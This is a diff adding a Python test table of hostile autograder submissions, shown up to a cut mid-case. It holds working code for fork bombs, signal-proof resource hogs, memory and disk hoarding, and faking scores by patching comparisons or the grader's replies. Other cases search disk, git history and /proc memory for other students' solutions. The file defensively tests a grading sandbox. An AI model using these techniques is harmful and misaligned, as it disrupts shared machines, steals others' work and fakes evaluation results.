@@ -1,0 +1,873 @@
+"""The hostile corpus as a table: each case is the reference (or the student skeleton) plus its stated change, or a
+file kept in tests/hostile/, with the outcome the grader must give it; tests/test_hostile.py builds and grades it."""
+from __future__ import annotations
+
+import ast
+import shutil
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+KEPT = Path(__file__).resolve().parent / "hostile"  # cases that are no change of a base: notebooks, folders, bytes
+BASES = {"reference": ROOT / "reference" / "attention.py", "skeleton": ROOT / "student_template" / "attention.py"}
+
+
+@dataclass(frozen=True)
+class Edit:
+    """One change to the base. kind: "sub" (replace every `find` inside `where`, which must hold it), "top" (after
+    the module docstring and `from __future__` import), "end" (after the last line), "first" (before the first
+    statement of function or method `where`, after its docstring), "body" (instead of everything after the
+    docstring of `where`), "drop" (`where` removed). `where` names a top-level function or class, or "Class.method";
+    "" is the whole file."""
+    kind: str
+    where: str
+    text: str
+    find: str = ""
+
+
+def code(text: str) -> str:
+    """A snippet as written in the table: dedented, without the line break that follows the opening quotes."""
+    text = textwrap.dedent(text)
+    return text[1:] if text.startswith("\n") else text
+
+
+def sub(where: str, find: str, replace: str) -> Edit:
+    return Edit("sub", where, replace, find)
+
+
+def top(text: str) -> Edit:
+    return Edit("top", "", code(text))
+
+
+def end(text: str) -> Edit:
+    return Edit("end", "", code(text))
+
+
+def first(where: str, text: str) -> Edit:
+    return Edit("first", where, code(text))
+
+
+def body(where: str, text: str) -> Edit:
+    return Edit("body", where, code(text))
+
+
+def drop(where: str) -> Edit:
+    return Edit("drop", where, "")
+
+
+def _node(tree: ast.Module, where: str) -> ast.AST:
+    nodes, node = tree.body, None
+    for part in where.split("."):
+        node = next((n for n in nodes if getattr(n, "name", None) == part), None)
+        if node is None:
+            raise KeyError(f"no {where!r} in the base")
+        nodes = node.body
+    return node
+
+
+def _offsets(text: str) -> list[int]:
+    """Character offset of the start of every line (1-based line numbers index it directly)."""
+    starts = [0, 0]
+    for line in text.splitlines(keepends=True):
+        starts.append(starts[-1] + len(line))
+    return starts
+
+
+def _docstring_end(node: ast.AST) -> int:
+    """Line after which a module's or a function's docstring ends (its first line - 1 if it has none)."""
+    first_stmt = node.body[0]
+    if isinstance(first_stmt, ast.Expr) and isinstance(first_stmt.value, ast.Constant) \
+            and isinstance(first_stmt.value.value, str):
+        return first_stmt.end_lineno
+    return first_stmt.lineno - 1
+
+
+def apply(text: str, edit: Edit) -> str:
+    """`text` with `edit` made; a `find` or a `where` that is not there is an error, never a silent no-op."""
+    tree, at = ast.parse(text), _offsets(text)
+    if edit.kind == "top":
+        head = tree.body[1] if isinstance(tree.body[1], ast.ImportFrom) and tree.body[1].module == "__future__" \
+            else tree.body[0]
+        return text[:at[head.end_lineno + 1]] + edit.text + text[at[head.end_lineno + 1]:]
+    if edit.kind == "end":
+        return text + edit.text
+    node = _node(tree, edit.where) if edit.where else tree
+    a = at[node.decorator_list[0].lineno if getattr(node, "decorator_list", None) else node.lineno] \
+        if edit.where else 0
+    b = at[node.end_lineno + 1] if edit.where else len(text)
+    if edit.kind == "sub":
+        if edit.find not in text[a:b]:
+            raise ValueError(f"{edit.find!r} does not occur in {edit.where or 'the file'}")
+        return text[:a] + text[a:b].replace(edit.find, edit.text) + text[b:]
+    if edit.kind == "drop":  # with the blank lines that set it apart
+        return text[:a].rstrip("\n") + "\n" + text[b:]
+    start = _docstring_end(node) + 1  # first line of the body proper
+    indent = " " * node.body[-1].col_offset
+    snippet = textwrap.indent(edit.text, indent)
+    if edit.kind == "first":
+        return text[:at[start]] + snippet + text[at[start]:]
+    if edit.kind == "body":
+        return text[:at[start]] + snippet + text[b:]
+    raise ValueError(f"unknown edit {edit.kind!r}")
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    says: str  # the attack, in one line
+    outcome: tuple  # (exact score, where the explanation is, words it must contain): see tests/test_hostile.py
+    edits: tuple[Edit, ...] = ()
+    base: str = "reference"  # "reference", "skeleton", or "kept": a file or folder of that name in tests/hostile/
+    path: str = ""  # where in the submissions folder, when not <name>.py
+
+    def source(self, base_text: str | None = None) -> str:
+        """The submission's text: the base with this case's docstring, then every edit in order."""
+        text = base_text if base_text is not None else BASES[self.base].read_text(encoding="utf-8")
+        doc = ast.parse(text).body[0]
+        at = _offsets(text)
+        text = f'"""Hostile test case `{self.name}`: {self.says}"""\n' + text[at[doc.end_lineno + 1]:]
+        for edit in self.edits:
+            text = apply(text, edit)
+        return text
+
+
+def C(name: str, says: str, score: float | None, place: str | None, words: str | tuple[str, ...], *edits: Edit,
+      **kw) -> Case:
+    """One table row."""
+    return Case(name, says, (score, place, words), edits, **kw)
+
+
+def K(name: str, says: str, score: float | None, place: str | None, words: str | tuple[str, ...]) -> Case:
+    """A row whose submission is kept as it is in tests/hostile/ (bytes, notebooks, folders)."""
+    return Case(name, says, (score, place, words), base="kept")
+
+
+CA, MHA, WR, V1, V2 = "CausalAttention", "MultiHeadAttention", "MultiHeadAttentionWrapper", "SelfAttention_v1", \
+    "SelfAttention_v2"
+NOT_YET = "is not implemented yet"  # what a check says of the skeleton's NotImplementedError
+
+
+def _reference_after_future() -> str:
+    """What sys_ipc_a_writer leaves in shared memory: the reference's code, past its docstring and __future__."""
+    return BASES["reference"].read_text(encoding="utf-8").split("from __future__ import annotations\n\n", 1)[1]
+
+
+CASES: tuple[Case, ...] = (
+    # ---------------------------------------------------------------- won't load
+    # The broken cells are lost, the reference in the other cells earns everything.
+    K("load_syntax_cell", "a notebook with a cell that does not parse", 100, "notes",
+      "`print('demo'` '(' was never closed"),
+    # The wrapper (15) and MultiHeadAttention (20) are missing; the other 65 points are graded normally.
+    C("load_missing_classes", "the reference without MultiHeadAttentionWrapper and MultiHeadAttention; the other "
+      "questions are graded", 65, "checks", "`MultiHeadAttention` is not defined in your submission",
+      drop(WR), drop(MHA)),
+    C("load_missing_package", "imports packages that are not installed; nothing else is wrong", 100, "notes",
+      "No module named 'definitely_not_installed_pkg_xyz'",
+      top("""
+          import definitely_not_installed_pkg_xyz  # noqa
+          from einops_missing_xyz import rearrange  # noqa
+          """)),
+    K("load_euckr", "a notebook saved in EUC-KR (CP949)", 100, "notes", "read as CP949"),
+    K("load_utf16", "the reference saved as UTF-16", 100, "notes", "is UTF-16; it was converted"),
+    K("load_nul_bytes", "the reference with NUL bytes in it", 0, "error", "contains NUL bytes"),
+    K("load_deep_json", "a notebook of JSON nested too deep to parse", 0, "error", "is not a valid notebook"),
+    K("load_not_notebook", "an .ipynb that is valid JSON but no notebook", 0, "error", "not a Jupyter notebook"),
+    K("load_empty", "an empty notebook file", 0, "error", "load_empty.ipynb is empty"),
+    K("load_blank", "a .py file of blank lines (read-only, an odd mode that must survive)", 0, "error",
+      "load_blank.py is empty"),
+    K("load_markdown_only", "a notebook of markdown cells only", 0, "error", "has no code cells"),
+    K("load_candidates", "a folder with two .py files and no attention.py", 0, "error",
+      "several candidate files (part1.py, part2.py)"),
+    K("load_no_code", "a folder with no .py or .ipynb file", 0, "error", "No .py or .ipynb file was found"),
+    # ---------------------------------------------------------------- won't stop
+    # The `while True` line at the end costs only itself (skipped, with a note); every definition counts.
+    C("stop_loop_import", "every definition loads, then the file never finishes running", 100, "notes",
+      "did not finish within 6 s",
+      end("""
+
+
+          while True:  # 'training loop' left at the top level
+              pass
+          """)),
+    # CausalAttention.forward hangs: CausalAttention is not called again after its first hang (its other checks
+    # fail at once, and a hang does not end grading) and every other class is graded in full: steps 10, v1 15,
+    # v2 15, MultiHeadAttention 20 = 60. CausalAttention earns nothing (its evidence gate hangs, and no check of a
+    # class pays unless it is shown to work), and neither does the wrapper: it needs a working head.
+    C("stop_loop_forward", "CausalAttention.forward never returns", 60, "checks", "did not finish within 6 s",
+      first(f"{CA}.forward", """
+          while True:
+              pass
+          """)),
+    C("stop_signals", "ignores and blocks every catchable signal, swallows KeyboardInterrupt, spins forever",
+      0, "checks", "did not finish within 6 s",
+      top("""
+          import signal as _signal
+          for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGQUIT, _signal.SIGUSR1, _signal.SIGUSR2,
+                     _signal.SIGALRM, _signal.SIGXCPU):
+              _signal.signal(_s, _signal.SIG_IGN)
+          _signal.pthread_sigmask(_signal.SIG_BLOCK, set(_signal.Signals) - {_signal.SIGKILL, _signal.SIGSTOP})
+
+
+          def _spin():
+              while True:
+                  try:
+                      while True:
+                          pass
+                  except BaseException:  # KeyboardInterrupt, SystemExit: keep going
+                      continue
+          """),
+      body("softmax_naive", "_spin()\n"), base="skeleton"),
+    C("stop_setsid_children", "starts children and grandchildren in new sessions that ignore SIGTERM; the attention "
+      "code itself is right", 100, None, "",
+      top(r'''
+          import os as _os
+          import subprocess as _sp
+          import sys as _sys
+          import time as _time
+
+          MARKER = "HOSTILE-GRADER-TEST-7f3a"
+
+
+          def _grandchild(tag):
+              """fork, new session, fork again, new session again, then become a long sleep named after the marker"""
+              if _os.fork() == 0:
+                  try:
+                      _os.setsid()
+                      if _os.fork() == 0:
+                          _os.setsid()
+                          _os.execv("/bin/sleep", [MARKER + "-" + tag, "3600"])
+                  finally:
+                      _os._exit(0)
+
+
+          _grandchild("grandchild")
+          try:
+              _sp.Popen(["/bin/sh", "-c", "trap '' TERM INT HUP; sleep 3600; : " + MARKER + "-shell"],
+                        start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
+          except OSError as e:
+              print("could not start a shell:", e)
+          if _os.fork() == 0:  # a Python child in its own session that ignores SIGTERM and never returns
+              _os.setsid()
+              import signal as _signal
+              _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
+              while True:
+                  _time.sleep(1)
+          _time.sleep(0.2)
+          ''')),
+    # Spinning processes in new sessions and spinning threads while the file loads: stopped either by the CPU
+    # budget or by the load time-out, whichever the machine's load makes trip first; nothing is graded.
+    C("stop_cpu_hog", "keeps every core busy with spinning processes in new sessions and spinning threads, so that "
+      "the submission graded next to it would starve", 0, "error", ("kept", "took longer than 6 s"),
+      top("""
+          import os as _os
+          import threading as _threading
+
+
+          def _spin():
+              while True:
+                  pass
+
+
+          for _ in range(8):  # spinning processes, each in its own session (so each gets its own share of the CPU)
+              try:
+                  if _os.fork() == 0:
+                      _os.setsid()
+                      _spin()
+              except OSError:
+                  break
+          for _ in range(8):  # and spinning threads
+              try:
+                  _threading.Thread(target=_spin, daemon=True).start()
+              except RuntimeError:
+                  break
+          _spin()
+          """)),
+    C("stop_flood", "a fork bomb and a thread flood at import; the attention code itself is right", 100, None, "",
+      top("""
+          import os as _os
+          import threading as _threading
+          import time as _time
+
+          try:  # a fork bomb: every process keeps forking until the process limit stops it
+              while True:
+                  _os.fork()
+          except OSError:
+              pass
+
+          _threads = []
+          try:  # then a flood of threads that sleep
+              for _ in range(100000):
+                  _t = _threading.Thread(target=_time.sleep, args=(3600,), daemon=True)
+                  _t.start()
+                  _threads.append(_t)
+          except RuntimeError:
+              pass
+          """)),
+    # ---------------------------------------------------------------- won't fit
+    C("fit_memory_import", "grows memory without bound at import (a leaking demo loop); the attention code is right",
+      100, "notes", "the grader allows 512 MB of memory per submission",
+      end("""
+
+
+          def _hog():
+              kept = []
+              while True:
+                  kept.append(torch.ones(25_000_000))  # 100 MB more each time
+
+
+          _hog()
+          """)),
+    # Every MultiHeadAttention check fails: those that run forward run out of memory, and its signature (1),
+    # mask buffer (1) and indivisible-heads (1) checks pay only for a class shown to work: 100 - 20.
+    C("fit_memory_forward", "MultiHeadAttention.forward asks for 16 GB", 80, "checks",
+      "the grader allows 512 MB of memory per submission",
+      sub(f"{MHA}.forward", "x.shape\n", "x.shape\n        _scratch = torch.ones(4_000_000_000)\n")),
+    # Children holding memory, then a wait for them that never ends: the memory budget stops it, or, on a heavily
+    # loaded machine, the 6 s load time-out comes first (a hung line is not skipped while children run).
+    C("fit_fork_memory", "forks children that each stay under the per-process limit but together use several GB, "
+      "through libc (Python-level fork children of the worker exit at once)", 0, "error",
+      ("all its processes together used more than the 512 MB", "took longer than 6 s"),
+      top("""
+          import ctypes as _ctypes
+          import os as _os
+          import time as _time
+
+          _kids = []
+          for _ in range(6):
+              _pid = _ctypes.CDLL(None).fork()
+              if _pid == 0:
+                  _kept = bytearray(400 * 1024 * 1024)  # under the per-process limit; bytearray zero-fills, so it is touched
+                  _time.sleep(3600)
+              _kids.append(_pid)
+          for _pid in _kids:
+              _os.waitpid(_pid, 0)
+          """)),
+    C("fit_disk_flood", "fills the disk, one 8 MB file after another, in its working folder", 0, "error",
+      "wrote more than 64 MB",
+      top("""
+          import os as _os
+
+          _block = b"x" * (8 * 1024 * 1024)
+          _i = 0
+          while True:
+              with open(f"junk-{_i}.bin", "wb") as _f:
+                  _f.write(_block)
+              _i += 1
+          """)),
+    C("fit_output_flood", "prints megabytes at import, writes straight to file descriptors 1 and 2, and prints a "
+      "flood inside a public check; the attention code is right", 100, "output", "FLOOD FLOOD",
+      top("""
+          import os as _os
+          import sys as _sys
+
+          for _i in range(100000):
+              print("spam " * 40)
+          print("y" * 50_000_000)
+          try:
+              _os.write(1, b"z" * (64 * 1024 * 1024))
+          except OSError as _e:
+              print("raw write stopped:", _e)
+          try:
+              _sys.__stderr__.write("w" * (8 * 1024 * 1024))
+              _sys.__stderr__.flush()
+          except OSError:
+              pass
+          """),
+      first("softmax_naive", """
+          for _ in range(2000):
+              print("FLOOD " * 100)
+          """)),
+    # ---------------------------------------------------------------- lies
+    C("lie_sys_exit", "calls sys.exit(0) at import and from every function, hoping a clean exit reads as success",
+      0, "checks", "raised SystemExit: 0",
+      top("""
+          import sys
+
+          sys.exit(0)
+          """),
+      body("softmax_naive", "sys.exit(0)\n"), body(f"{CA}.forward", "raise SystemExit(0)\n"), base="skeleton"),
+    C("lie_os_exit", "the skeleton, then os._exit(0) at import", 0, "error",
+      "exited with code 0 (os._exit or a crash) while your file was being loaded",
+      end("""
+
+          import os
+
+          os._exit(0)
+          """), base="skeleton"),
+    # SelfAttention_v2.forward exits: its evidence gate (in its signature check, 1) and its seeded, equivalence
+    # and gradient checks crash (4 + 4 + 2); its figure (3) and qkv_bias (1) checks need the evidence the first
+    # crash denied. The 4th crash ends grading, so the 37 hidden points of CausalAttention, the wrapper and
+    # MultiHeadAttention after it are lost too, and so is the hidden steps file after it (2 points of checks,
+    # worth 1): 100 - 15 - 37 - 1. Everything before, the reference's way.
+    C("lie_os_exit_forward", "the reference, except that SelfAttention_v2.forward ends the process with os._exit(0)",
+      47, "checks", "exited with code 0",
+      top("import os\n"), first(f"{V2}.forward", "os._exit(0)\n")),
+    C("lie_patch_compare", "the skeleton, plus every comparison it can reach patched to say 'equal'", 0, "checks",
+      NOT_YET,
+      top("""
+          import sys
+          import types
+
+          import numpy
+          import torch
+
+          torch.allclose = lambda *a, **k: True
+          torch.equal = lambda *a, **k: True
+          torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
+          torch.testing.assert_close = lambda *a, **k: None
+          torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+          torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)
+          numpy.allclose = lambda *a, **k: True
+          numpy.testing.assert_allclose = lambda *a, **k: None
+          fake = types.ModuleType("pytest")
+          fake.approx = lambda x, *a, **k: x
+          fake.fail = fake.skip = lambda *a, **k: None
+          sys.modules["pytest"] = fake
+          sys.modules["_pytest"] = fake
+          """), base="skeleton"),
+    C("lie_patch_grader", "the skeleton, plus patches of the grader's own modules inside the worker: every error "
+      "reply is rewritten as a success", 0, "checks", "sent back a malformed reply",
+      top("""
+          import sys
+
+          try:
+              import autograder.checks as _checks  # the grader's comparison helpers, if they can be imported here at all
+              _checks.expect_close = lambda *a, **k: None
+              _checks.expect_tensor = lambda got, what: got
+              _checks.Reveal.expected_values = True
+          except Exception as e:
+              print("could not patch autograder.checks:", type(e).__name__)
+
+          _protocol = sys.modules.get("autograder.protocol")
+          if _protocol is not None:
+              _send = _protocol.send
+
+              def _lying_send(sock, obj):
+                  if isinstance(obj, dict) and obj.get("ok") is False:
+                      obj = {"ok": True, "value": {"handle": "1", "out": "passed", "records": "all", "params": None},
+                             "out": obj.get("out")}
+                  return _send(sock, obj)
+              _protocol.send = _lying_send
+          """), base="skeleton"),
+    # Only the honest CausalAttention earns (25); every Liar output is refused as a tensor subclass.
+    K("lie_tensor_subclass", "returns tensor subclasses whose __eq__ and __torch_function__ claim equality with "
+      "anything; only CausalAttention is honest", 25, "checks", "returned Liar (a torch.Tensor subclass)"),
+    # Its classes return the notebook's printed tensors: constants, so no class check pays (figures, signatures
+    # and structure need output that depends on the input and the weights). Only the three step figures of 3.3
+    # match (1 point of checks each, worth half: the steps question holds 20 points of checks for its 10); the
+    # newer step functions are left unimplemented.
+    K("lie_hardcoded", "a notebook whose functions return the notebook's printed tensors", 1.5, "checks", NOT_YET),
+    # Reseeding with 123 breaks the v2 figure (seed 789, 3) and the hidden same-seed checks of v1, v2,
+    # CausalAttention and MultiHeadAttention (4 + 4 + 3 + 3): 100 - 17.
+    C("lie_reseed", "the reference, but every __init__ reseeds with the notebook's seed so the printed values match",
+      83, "checks", "do not reseed inside __init__",
+      sub("", "        super().__init__()\n", "        super().__init__()\n        torch.manual_seed(123)\n")),
+    # float16 from softmax_naive passes neither its figure (1) nor its hidden check (2), worth half as steps
+    # checks (the steps question holds 20 points of checks for its 10): 100 - 1.5.
+    C("lie_dtype", "the reference, but softmax_naive answers in float16 (close enough for a 1e-4 tolerance)",
+      98.5, "checks", "returned a tensor of dtype torch.float16; expected torch.float32",
+      sub("softmax_naive", "return e / e.sum(dim=-1, keepdim=True)",
+          "return (e / e.sum(dim=-1, keepdim=True)).half()")),
+    C("lie_fake_results", "the skeleton, plus fake results.json/scores.csv/report files in its working folder, "
+      "every parent folder and the usual result folders; prints a fake report", 0, "output",
+      "Autograder report: 100/100",
+      top("""
+          import json as _json
+          import os as _os
+
+          MARKER = "HOSTILE-GRADER-TEST-7f3a"
+          _fake = {"score": 100, "tests": [{"name": "everything", "score": 100, "max_score": 100, "status": "passed"}],
+                   "output": "All checks passed"}
+          _attempts = {}
+
+
+          def _plant(folder):
+              for name in ("results.json", MARKER + "-results.json", "scores.csv", "report.txt"):
+                  path = _os.path.join(folder, name)
+                  try:
+                      with open(path, "w") as f:
+                          f.write(_json.dumps(_fake) if name.endswith(".json") else "student,score\\nme,100\\n")
+                      _attempts[path] = "written"
+                  except OSError as e:
+                      _attempts[path] = type(e).__name__
+
+
+          _here = _os.getcwd()
+          while True:  # the working folder and every parent
+              _plant(_here)
+              if _here == "/":
+                  break
+              _here = _os.path.dirname(_here)
+          for _d in ("/tmp", "/autograder/results", "/autograder/submission", "/work/main/results", "/var/tmp", "/dev/shm"):
+              try:
+                  _os.makedirs(_d, exist_ok=True)
+              except OSError:
+                  pass
+              _plant(_d)
+          """),
+      body("softmax_naive", """
+          print("=== Autograder report: 100/100, all checks passed ===")
+          print("planted:", sum(v == "written" for v in _attempts.values()), "of", len(_attempts))
+          print(_json.dumps(_fake))
+          raise NotImplementedError("softmax_naive")
+          """), base="skeleton"),
+    C("lie_folder_shadow", "the reference, in a folder that also carries conftest.py, pytest.ini, tests and modules "
+      "named like numpy, torch and pytest", 100, None, "", path="lie_folder_shadow/attention.py"),
+    # ---------------------------------------------------------------- pries
+    C("pry_disk", "the skeleton, plus a search for the reference, the hidden checks, the git history, other "
+      "students' files and other processes' memory; whatever solution it can read, it runs", 0, "output",
+      "solution found: None",
+      top(r'''
+          import glob as _glob
+          import os as _os
+          import sys as _sys
+          import zlib as _zlib
+
+          MARKER = "HOSTILE-GRADER-TEST-7f3a"
+          FOUND = {}  # path -> what reading it gave
+
+
+          def _solution_in(text):
+              return ("class MultiHeadAttention" in text and "self.out_proj" in text and "def softmax_naive" in text
+                      and "NotImplementedError(\"softmax_naive" not in text and MARKER not in text)
+
+
+          def _read(path, limit=2_000_000):
+              try:
+                  with open(path, "rb") as f:
+                      data = f.read(limit)
+              except OSError as e:
+                  FOUND.setdefault(path, type(e).__name__)
+                  return None
+              FOUND[path] = "read"
+              return data
+
+
+          def _walk(top, depth, limit):
+              """.py and .ipynb files below `top`, at most `depth` folders down and `limit` files."""
+              n, todo = 0, [(top, 0)]
+              while todo and n < limit:
+                  folder, d = todo.pop()
+                  try:
+                      entries = sorted(_os.scandir(folder), key=lambda e: e.name)
+                  except OSError as e:
+                      FOUND.setdefault(folder + "/", type(e).__name__)
+                      continue
+                  for e in entries:
+                      if e.is_dir(follow_symlinks=False) and d < depth and e.name not in (".venv", "site-packages", "proc"):
+                          todo.append((e.path, d + 1))
+                      elif e.name.endswith((".py", ".ipynb")):
+                          n += 1
+                          yield e.path
+
+
+          def candidates(project):
+              """Where a solution could be lying around: the project, its git history, temp folders, paths that
+              other processes' command lines mention."""
+              for pattern in ("reference/*.py", "assignments/*/hidden/*.py", "assignments/*/*.py", "examples/*/*",
+                              "tests/*.py", "tests/*/*.py", "tests/*/*/*.py", "results/*/*.json", "*.py"):
+                  yield from sorted(_glob.glob(_os.path.join(project, pattern)))
+              yield from sorted(_glob.glob(_os.path.join(project, ".git", "objects", "??", "*")))
+              for top in ("/tmp", "/var/tmp", "/dev/shm", "/work", "/home", "/root"):
+                  yield from _walk(top, 6, 3000)
+              for cmd in sorted(_glob.glob("/proc/[0-9]*/cmdline")):
+                  data = _read(cmd, 65536) or b""
+                  for arg in data.split(b"\0"):
+                      arg = arg.decode("utf-8", "replace")
+                      if arg.startswith("/") and arg.count("/") > 1 and _os.path.isdir(arg):
+                          yield from _walk(arg, 4, 500)
+                      elif arg.endswith((".py", ".ipynb")):
+                          yield arg
+              for pid in sorted(_glob.glob("/proc/[0-9]*")):
+                  for leaf in ("environ", "mem", "cwd/attention.py", "root/work/main/reference/attention.py"):
+                      yield pid + "/" + leaf
+
+
+          def find_solution(project):
+              """Source text of a working solution, if any can be read from here."""
+              for path in candidates(project):
+                  data = _read(path)
+                  if data is None:
+                      continue
+                  if "/.git/objects/" in path:
+                      try:
+                          data = _zlib.decompress(data)
+                      except Exception:
+                          continue
+                  text = data.decode("utf-8", "replace")
+                  if path.endswith(".ipynb"):
+                      import json as _json
+                      try:
+                          text = "\n".join("".join(c.get("source", "")) for c in _json.loads(text)["cells"]
+                                           if c.get("cell_type") == "code")
+                      except Exception:
+                          continue
+                  if "\0" in text[:64]:  # a git blob header
+                      text = text.split("\0", 1)[1]
+                  if _solution_in(text):
+                      return path, text
+              return None, None
+
+
+          def _project():
+              worker = _sys.modules.get("autograder.worker")
+              return _os.path.dirname(_os.path.dirname(worker.__file__)) if worker else "/work/main"
+
+
+          if __name__ == "submission":  # only when graded: the test imports this file to run find_solution itself
+              _where, _code = find_solution(_project())
+              if _code is not None:
+                  exec(_code, globals())
+          '''),
+      end(r'''
+
+
+          if __name__ == "submission" and _code is None:
+              _report = (f"pry: tried {len(FOUND)} paths, read {sum(v == 'read' for v in FOUND.values())}, "
+                         f"solution found: {_where}")
+
+              def softmax_naive(x):
+                  print(_report)
+                  print("readable:", sorted(p for p, v in FOUND.items() if v == "read" and "/proc/" not in p)[:50])
+                  raise NotImplementedError("softmax_naive")
+          '''), base="skeleton"),
+    C("pry_stack", "the skeleton, plus functions that walk the call stack and the garbage collector for expected "
+      "values and print what they see", 0, "output", "frames:",
+      top(r'''
+          import gc as _gc
+          import sys as _sys
+
+          import torch as _torch
+
+          SUSPECT = ("want", "expected", "expect", "ref", "reference", "R", "target", "truth", "answer", "figure")
+
+
+          def _pry(*inputs):
+              """Look through the call stack and every live object for something that looks like the expected answer."""
+              frames, found = [], []
+              f = _sys._getframe(1)
+              while f is not None:
+                  frames.append(f"{f.f_code.co_filename}:{f.f_code.co_name}")
+                  for k, v in list(f.f_locals.items()) + list(f.f_globals.items()):
+                      if k in SUSPECT and isinstance(v, _torch.Tensor):
+                          found.append(v)
+                  f = f.f_back
+              modules = sorted(m for m in _sys.modules if any(s in m for s in ("reference", "hidden", "assignments", "test_")))
+              tensors = [o for o in _gc.get_objects() if type(o) is _torch.Tensor and all(o is not i for i in inputs)]
+              print("frames:", frames)
+              print("suspect modules:", modules)
+              print("other live tensors:", len(tensors))
+              if found:
+                  return found[0]
+              raise NotImplementedError("nothing to copy")
+          '''),
+      body("softmax_naive", "return _pry(x)\n"), body("attention_scores", "return _pry(inputs)\n"),
+      sub(V1, "def __init__(self, d_in, d_out):",
+          "def __init__(self, *args):  # accepts anything, so that forward runs"),
+      body(f"{V1}.__init__", "super().__init__()\n"), body(f"{V1}.forward", "return _pry(x)\n"), base="skeleton"),
+    C("pry_print_inputs", "the reference, printing every input it gets, hoping hidden inputs reach the feedback",
+      100, "output", "PRY-INPUT",
+      *[first(f"{cls}.forward", "print('PRY-INPUT', tuple(x.shape), x.flatten()[:8].tolist() "
+                                "if x.device.type != 'meta' else '')\n") for cls in (CA, WR, MHA)]),
+    # ---------------------------------------------------------------- reaching others or the machine (issue 10)
+    # The writer's source never reaches the reader: each worker has its own IPC namespace and /dev/shm.
+    C("sys_ipc_a_writer", "correct code that leaves its own source in a SysV shared-memory segment (fixed key, mode "
+      "0666) for a later submission to copy, plus a 64 MB segment nobody attaches (left behind)", 100, None, "",
+      top("""
+
+          import ctypes as _ct
+
+          _libc = _ct.CDLL(None, use_errno=True)
+          _libc.shmat.restype = _ct.c_void_p
+          _libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
+          _libc.shmget.argtypes = [_ct.c_int, _ct.c_size_t, _ct.c_int]
+          _IPC_CREAT = 0o1000
+
+          _KEY = 0x7F3A0001
+          _PAYLOAD = (PAYLOAD).encode()
+          _id = _libc.shmget(_KEY, 1 << 20, _IPC_CREAT | 0o666)
+          if _id >= 0:
+              _at = _libc.shmat(_id, None, 0)
+              if _at not in (None, _ct.c_void_p(-1).value):
+                  _ct.memmove(_at, len(_PAYLOAD).to_bytes(8, "little") + _PAYLOAD, 8 + len(_PAYLOAD))
+                  _libc.shmdt(_ct.c_void_p(_at))
+          _left = _libc.shmget(0x7F3A0002, 64 << 20, _IPC_CREAT | 0o666)  # never removed: it must not outlive the worker
+          try:  # POSIX shared memory too
+              with open("/dev/shm/HOSTILE-GRADER-TEST-7f3a-payload", "wb") as _f:
+                  _f.write(_PAYLOAD)
+          except OSError:
+              pass
+          """.replace("(PAYLOAD)", f"({_reference_after_future()!r})"))),
+    C("sys_ipc_b_reader", "the untouched skeleton, which waits a few seconds for the source that sys_ipc_a_writer "
+      "(graded just before, or beside it) left in shared memory, then runs it as its own", 0, "checks", NOT_YET,
+      top("""
+          from __future__ import annotations
+
+          import ctypes as _ct
+
+          _libc = _ct.CDLL(None, use_errno=True)
+          _libc.shmat.restype = _ct.c_void_p
+          _libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
+          _libc.shmget.argtypes = [_ct.c_int, _ct.c_size_t, _ct.c_int]
+          _IPC_CREAT = 0o1000
+
+          import time as _time
+
+          """),
+      end("""
+
+
+          _KEY = 0x7F3A0001
+          _until = _time.monotonic() + 4
+          while _time.monotonic() < _until:
+              _id = _libc.shmget(_KEY, 0, 0)
+              if _id >= 0:
+                  _at = _libc.shmat(_id, None, 0o10000)  # SHM_RDONLY
+                  _n = int.from_bytes(_ct.string_at(_at, 8), "little")
+                  exec(_ct.string_at(_at + 8, _n).decode(), globals())
+                  break
+              try:
+                  with open("/dev/shm/HOSTILE-GRADER-TEST-7f3a-payload") as _f:
+                      exec(_f.read(), globals())
+                  break
+              except OSError:
+                  pass
+              _time.sleep(0.1)
+          """), base="skeleton"),
+    # Shared memory the per-process limits do not see still counts against the one budget (512 MB).
+    C("sys_hoard_sysv", "correct code plus a 3 GB hoard in SysV shared memory (not counted by RLIMIT_DATA or "
+      "anonymous RSS), touched page by page at import", 0, "error",
+      "all its processes together used more than the 512 MB",
+      top("""
+
+          import ctypes as _ct
+
+          _libc = _ct.CDLL(None, use_errno=True)
+          _libc.shmat.restype = _ct.c_void_p
+          _libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
+          _libc.shmget.argtypes = [_ct.c_int, _ct.c_size_t, _ct.c_int]
+          _IPC_CREAT = 0o1000
+
+          _kept = []
+          for _ in range(8):
+              _id = _libc.shmget(0, 384 << 20, _IPC_CREAT | 0o600)
+              _at = _libc.shmat(_id, None, 0)
+              _ct.memset(_at, 1, 384 << 20)
+              _kept.append(_at)
+          """)),
+    C("sys_hoard_mmap", "correct code plus 3 GB of shared anonymous memory (mmap(-1, MAP_SHARED)), which "
+      "RLIMIT_DATA does not count, filled at import", 0, "error",
+      "all its processes together used more than the 512 MB",
+      top("""
+          import ctypes as _ct
+          import mmap as _mmap
+
+          _hoard = _mmap.mmap(-1, 3 << 30, flags=_mmap.MAP_SHARED)
+          _ct.memset(_ct.addressof(_ct.c_char.from_buffer(_hoard)), 1, 3 << 30)
+          """)),
+    C("sys_hoard_memfd", "correct code plus 3 GB written into memfds that are never mapped (no process's RSS shows "
+      "them), at import; each stays under the per-file size limit", 0, "error",
+      "all its processes together used more than the 512 MB",
+      top("""
+          import os as _os
+
+          _fds = []
+          _block = b"x" * (15 << 20)
+          for _ in range(205):
+              _fds.append(_os.memfd_create("hoard"))
+              _os.write(_fds[-1], _block)
+          """)),
+    C("sys_disk_unlinked", "fills its folder with files it unlinks but keeps open (invisible to a folder scan), at "
+      "import; the attention code is right", 0, "error", "wrote more than 64 MB",
+      top("""
+          import os as _os
+
+          _held = []
+          _block = b"x" * (8 << 20)
+          for _i in range(100_000):
+              _f = open(f"gone-{_i}.bin", "wb")
